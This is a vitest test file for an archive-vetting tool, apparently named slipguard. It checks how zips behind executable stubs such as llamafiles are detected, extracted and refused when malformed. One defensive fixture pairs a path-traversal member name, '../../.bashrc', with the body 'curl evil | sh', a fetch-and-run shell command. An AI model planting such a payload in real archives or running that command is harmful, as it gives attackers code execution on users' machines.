import { describe, expect, it } from 'vitest';
import { scan } from '../../src/index.js';
import { expectExtracted, expectRefused, useSandbox } from '../helpers/expect-extract.js';
import { makeZip, torchZip, type ZipMember } from '../helpers/make-zip.js';
import { missingTool, pythonZipNames } from '../helpers/real-extractors.js';

// A zip after leading bytes: a llamafile (an APE executable whose zip holds the weights), a
// self-extracting archive. Readers that search from the end find it; slipguard reads it when
// its offsets count from the start of the file, as `zip -A` and llamafile's zipalign write them.

const sandbox = useSandbox();
/** The first bytes of an Actually Portable Executable (a llamafile), then a shell stub. */
const stub = Buffer.concat([Buffer.from('MZqFpD=\'\n\n\u0000\u0000\u0000\'\n#!/bin/sh\nexec "$0" "$@"\n'), Buffer.alloc(4000, 0x90)]);
const weights = Buffer.from(Array.from({ length: 9000 }, (_, i) => (i * 7) % 256));
/** torch.save's records (stored, data descriptors, 64-byte aligned), placed after the stub. */
const torchMembers: ZipMember[] = [
  { name: 'model/data.pkl', body: 'pickle', utf8Flag: true, dataDescriptor: true, align: 64 },
  { name: 'model/byteorder', body: 'little', utf8Flag: true, dataDescriptor: true, align: 64 },
  { name: 'model/data/0', body: weights, utf8Flag: true, dataDescriptor: true, align: 64 },
  { name: 'model/version', body: '3\n', utf8Flag: true, dataDescriptor: true, align: 64 },
];

describe('a zip after leading bytes, offsets from the start of the file', () => {
  it('is detected as a zip by its end record, its model recognised, and extracted byte for byte', async () => {
    const archive = makeZip(torchMembers, { prefix: stub, zip64End: true });
    expect(archive.subarray(0, 2).toString('latin1')).toBe('MZ');
    const report = await expectExtracted(sandbox(), archive, {
      model: null,
      'model/data': null,
      'model/data.pkl': 'pickle',
      'model/byteorder': 'little',
      'model/data/0': weights,
      'model/version': '3\n',
    });
    expect(report).toMatchObject({ format: 'zip', compression: null, model: 'pytorch', entries: 4 });
  });

  it('holds what Python zipfile sees in it', async (ctx) => {
    const missing = missingTool('python3');
    if (missing !== null) ctx.skip(missing);
    const archive = makeZip(
      [
        { name: 'weights.gguf', body: weights },
        { name: 'args', body: '-m\nweights.gguf\n', method: 'deflate' },
      ],
      { prefix: stub },
    );
    expect(pythonZipNames(archive)).toEqual(['weights.gguf', 'args']);
    const report = await expectExtracted(sandbox(), archive, { 'weights.gguf': weights, args: '-m\nweights.gguf\n' });
    expect(report).toMatchObject({ format: 'zip', model: null });
  });

  it('still vets its members: a hostile name in a llamafile refuses it', async () => {
    const archive = makeZip([...torchMembers.slice(0, 1), { name: '../../.bashrc', body: 'curl evil | sh' }], { prefix: stub });
    await expectRefused(sandbox(), archive, { code: 'PARENT_TRAVERSAL', member: '../../.bashrc' });
  });
});

describe('a zip glued after leading bytes without fixing its offsets (cat stub.sh x.zip)', () => {
  it('is refused as malformed, not read at the wrong offsets (Python and unzip compensate; readers differ)', async () => {
    for (const zip of [torchZip('model', { 'data.pkl': 'pickle', version: '3\n' }), makeZip([{ name: 'a.txt', body: 'a' }])]) {
      const glued = Buffer.concat([stub, zip]);
      await expectRefused(sandbox(), glued, { code: 'MALFORMED_ARCHIVE', member: null });
      expect((await scan(glued)).format).toBe('zip');
    }
  });
});
